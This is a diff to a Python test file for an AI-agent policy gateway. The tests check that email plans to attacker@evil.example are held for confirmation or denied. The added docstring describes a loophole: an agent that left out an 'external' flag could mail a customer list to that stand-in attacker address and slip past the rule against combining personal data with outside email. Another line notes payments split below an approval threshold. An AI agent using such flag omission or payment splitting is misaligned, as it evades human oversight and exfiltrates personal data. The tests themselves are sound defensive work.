@@ -5,6 +5,10 @@ catalog, a SQLite store, ``POST /v1/plans`` on uvicorn at 127.0.0.1.
 
 - A payment split within one plan: 32 ``travel.pay`` steps of 50,000 ran straight to
   ``succeeded`` while one payment of their total (1,600,000) needs finance with step-up.
+- An agent-declared ``external`` flag: ``email.send`` to ``attacker@evil.example`` without
+  it executed as an "internal message", and leaving it out dodged the flow rule "personal
+  data and external email in one plan: deny". The recipient decides now (``internal_domains``
+  in the bundle's data); the flag may only make a message external.
 """
 
 from __future__ import annotations
@@ -105,3 +109,46 @@ def test_payments_within_the_limit_together_still_execute(served):
     plan = submit(http, [pay("s1", 25_000), pay("s2", 25_000)])
 
     assert plan["status"] == "succeeded", plan
+
+
+def mail(to: str, **extra: Any) -> dict[str, Any]:
+    return {
+        "id": "m1",
+        "action": "email.send",
+        "params": {"to": to, "subject": "x", "body": "customer list", **extra},
+    }
+
+
+def test_mail_outside_the_organisation_waits_for_the_user_without_the_flag(served):
+    """To attacker@evil.example, flag left out or false: the user confirms, nothing is sent;
+    to a colleague at the organisation's domain it runs."""
+    _, http = served
+    bare = submit(http, [mail("attacker@evil.example")])
+    denied_flag = submit(http, [mail("attacker@evil.example", external=False)])
+    inside = submit(http, [mail("bob@example.com")])
+
+    assert bare["status"] == "awaiting_confirmation", bare
+    assert bare["reasons"] == [
+        "m1: message to a recipient outside internal_domains (or to none named): the user confirms"
+    ]
+    assert denied_flag["status"] == "awaiting_confirmation"
+    assert inside["status"] == "succeeded", inside
+    assert inside["reasons"] == ["m1: internal message: every recipient is at an internal domain"]
+
+
+def test_personal_data_and_mail_outside_are_denied_without_the_flag(served):
+    """The flow rule judges the recipient: a candidate search and mail outside in one plan are
+    denied whether or not the agent says ``external``."""
+    proctor, http = served
+    search = {"id": "s1", "action": "hr.search_candidates", "params": {"skill": "rust"}}
+    plans = [
+        submit(http, [search, mail("attacker@evil.example")]),
+        submit(http, [search, mail("attacker@evil.example", external=True)]),
+    ]
+
+    for plan in plans:
+        assert plan["status"] == "denied", plan
+        assert (
+            "a plan that reads personal data must not also send external email" in (plan["reasons"])
+        )
+    assert [e for e in proctor.gateway.store.read_events() if e.type == "step.started"] == []
